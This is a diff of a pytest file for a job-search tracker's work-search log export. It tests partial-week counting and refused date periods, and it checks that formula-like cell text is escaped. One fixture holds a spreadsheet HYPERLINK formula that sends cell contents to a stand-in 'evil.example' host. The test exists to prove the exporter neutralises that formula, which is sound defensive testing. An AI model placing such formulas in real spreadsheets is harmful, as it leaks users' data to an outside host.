@@ -141,7 +141,9 @@ def test_work_search_workbook_defaults_to_the_last_four_weeks(search: Path, tmp_
     out = tmp_path / "log.xlsx"
     code, output = run("export", str(search), "--work-search", str(out), "--as-of", "2026-11-25")
     assert code == 0, output
-    assert "(9 activities in 4 weeks; 3 below the 4 required)" in output
+    assert "(9 activities in 4 weeks, 1 partial; 2 of the 3 full weeks below the 4 required)" in (
+        output
+    )
     ws = openpyxl.load_workbook(out)["Work search"]
     cells = [[c for c in row if c is not None] for row in ws.iter_rows(values_only=True)]
     text = [str(row[0]) for row in cells if row]
@@ -151,15 +153,18 @@ def test_work_search_workbook_defaults_to_the_last_four_weeks(search: Path, tmp_
         "Week of Mon 2 Nov 2026 to Sun 8 Nov 2026",
         "Week of Mon 9 Nov 2026 to Sun 15 Nov 2026",
         "Week of Mon 16 Nov 2026 to Sun 22 Nov 2026",
-        "Week of Mon 23 Nov 2026 to Wed 25 Nov 2026",
+        "Week of Mon 23 Nov 2026 to Sun 29 Nov 2026 (partial: Mon-Wed)",
     ]
-    counts = [t for t in text if "required:" in t]
+    counts = [t for t in text if "required" in t and not t.startswith("4 activities required")]
     assert counts == [
         "4 activities; 4 required: met.",
         "3 activities; 4 required: 1 short.",
         "2 activities; 4 required: 2 short.",
-        "0 activities; 4 required: 4 short.",
+        "0 activities; partial week (Mon-Wed), not checked against the 4 required.",
     ]
+    assert text[1].startswith(
+        "4 activities required per week (Settings). A week the period cuts is marked partial."
+    )
     dated = [row for row in cells if row and isinstance(row[0], dt.datetime)]
     assert len(dated) == 9 and dated[0][0] == dt.datetime(2026, 11, 2)
 
@@ -180,3 +185,123 @@ def test_work_search_needs_a_fitting_name_and_an_orderly_period(search: Path) ->
     assert code == 1 and "the period starts (2026-11-20) after it ends (2026-11-02)" in output
     code, output = run("export", str(search), "--to", "c.xlsx", "--from", "2026-11-20")
     assert code == 2 and "--from and --until are for the work-search log" in output
+
+
+def _log(path: Path, out: Path, *args: str) -> tuple[str, list[list[str]]]:
+    code, output = run("export", str(path), "--work-search", str(out), *args)
+    assert code == 0, output
+    with out.open(encoding="utf-8-sig", newline="") as f:
+        return output, list(csv.reader(f))
+
+
+def _week_rows(rows: list[list[str]]) -> list[tuple[str, str]]:
+    return [(row[0], row[5]) for row in rows if row[0].startswith("Week ")]
+
+
+@pytest.mark.parametrize(
+    ("args", "weeks", "totals"),
+    [
+        (  # the default period on a Monday: this week has had one day
+            ["--as-of", "2026-11-23"],
+            [
+                ("Week 2026-11-02 to 2026-11-08", "4 activities; 4 required: met."),
+                ("Week 2026-11-09 to 2026-11-15", "3 activities; 4 required: 1 short."),
+                ("Week 2026-11-16 to 2026-11-22", "2 activities; 4 required: 2 short."),
+                (
+                    "Week 2026-11-23 to 2026-11-29 (partial: Mon only)",
+                    "0 activities; partial week (Mon only), not checked against the 4 required.",
+                ),
+            ],
+            "9 activities in 4 weeks, 1 partial; 2 of the 3 full weeks below the 4 required",
+        ),
+        (  # from a Thursday, until a Sunday
+            ["--as-of", "2026-11-25", "--from", "2026-11-05", "--until", "2026-11-22"],
+            [
+                (
+                    "Week 2026-11-02 to 2026-11-08 (partial: Thu-Sun)",
+                    "1 activity; partial week (Thu-Sun), not checked against the 4 required.",
+                ),
+                ("Week 2026-11-09 to 2026-11-15", "3 activities; 4 required: 1 short."),
+                ("Week 2026-11-16 to 2026-11-22", "2 activities; 4 required: 2 short."),
+            ],
+            "6 activities in 3 weeks, 1 partial; 2 of the 2 full weeks below the 4 required",
+        ),
+        (  # cut at both ends, nothing but partial weeks
+            ["--as-of", "2026-11-25", "--from", "2026-11-05", "--until", "2026-11-10"],
+            [
+                (
+                    "Week 2026-11-02 to 2026-11-08 (partial: Thu-Sun)",
+                    "1 activity; partial week (Thu-Sun), not checked against the 4 required.",
+                ),
+                (
+                    "Week 2026-11-09 to 2026-11-15 (partial: Mon-Tue)",
+                    "1 activity; partial week (Mon-Tue), not checked against the 4 required.",
+                ),
+            ],
+            "2 activities in 2 weeks, all partial: not checked against the 4 required",
+        ),
+        (  # --until after the as-of date: the log stops on it, no empty weeks to come
+            ["--as-of", "2026-11-17", "--from", "2026-11-09", "--until", "2026-12-31"],
+            [
+                ("Week 2026-11-09 to 2026-11-15", "3 activities; 4 required: 1 short."),
+                (
+                    "Week 2026-11-16 to 2026-11-22 (partial: Mon-Tue)",
+                    "2 activities; partial week (Mon-Tue), not checked against the 4 required.",
+                ),
+            ],
+            "5 activities in 2 weeks, 1 partial; 1 of the 1 full week below the 4 required",
+        ),
+    ],
+)
+def test_a_week_the_period_cuts_is_partial_and_never_short(
+    search: Path, tmp_path: Path, args: list[str], weeks: list[tuple[str, str]], totals: str
+) -> None:
+    out = tmp_path / "log.csv"
+    output, rows = _log(search, out, *args)
+    assert output == f"Wrote the work-search log ({totals}) to {out}.\n"
+    assert _week_rows(rows) == weeks
+
+
+def test_a_period_that_starts_after_the_as_of_date_is_refused(search: Path, tmp_path: Path) -> None:
+    out = tmp_path / "log.csv"
+    code, output = run(
+        "export", str(search), "--work-search", str(out), "--as-of", "2026-11-20",
+        "--from", "2026-11-23", "--until", "2026-11-29",
+    )  # fmt: skip
+    assert (code, output) == (
+        1,
+        "Error: the period starts (2026-11-23) after 2026-11-20, the day the log is written "
+        "for: it can only list what was done. Check --from (or --as-of).\n",
+    )
+    assert not out.exists()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
+    """Text a spreadsheet would run as a formula is written so it shows as typed."""
+    path = tracker(
+        tmp_path / "t.xlsx",
+        search=[
+            {"Date": D(2026, 11, 3), "Activity": "Application", "Company": "(formula)",
+             "Contact": "@SUM(1+1)", "Role": "+44 20 7946 0000"},
+            {"Date": D(2026, 11, 4), "Activity": "Networking", "Company": "-Minus Corp",
+             "Contact": "Ana = Bo", "Role": "Lead - Data"},
+        ],
+    )  # fmt: skip
+    # Typed as text (Excel: a leading apostrophe, or a cell formatted as Text).
+    book = openpyxl.load_workbook(path)
+    cell = next(c for row in book["Search"].iter_rows() for c in row if c.value == "(formula)")
+    cell.value, cell.data_type = FORMULA, "s"
+    book.save(path)
+    _, rows = _log(path, tmp_path / "log.csv", "--as-of", "2026-11-08")
+    assert [row[1:5] for row in rows if row[0].startswith("2026-")] == [
+        ["'" + FORMULA, "'@SUM(1+1)", "Online application", "'+44 20 7946 0000"],
+        ["'-Minus Corp", "Ana = Bo", "Other", "Lead - Data"],
+    ]
+    book = tmp_path / "log.xlsx"
+    assert run("export", str(path), "--work-search", str(book), "--as-of", "2026-11-08")[0] == 0
+    cells = [c for row in openpyxl.load_workbook(book)["Work search"].iter_rows() for c in row]
+    typed = [c for c in cells if c.value == FORMULA]
+    assert len(typed) == 1 and typed[0].data_type == "s"  # text in a workbook, not a formula
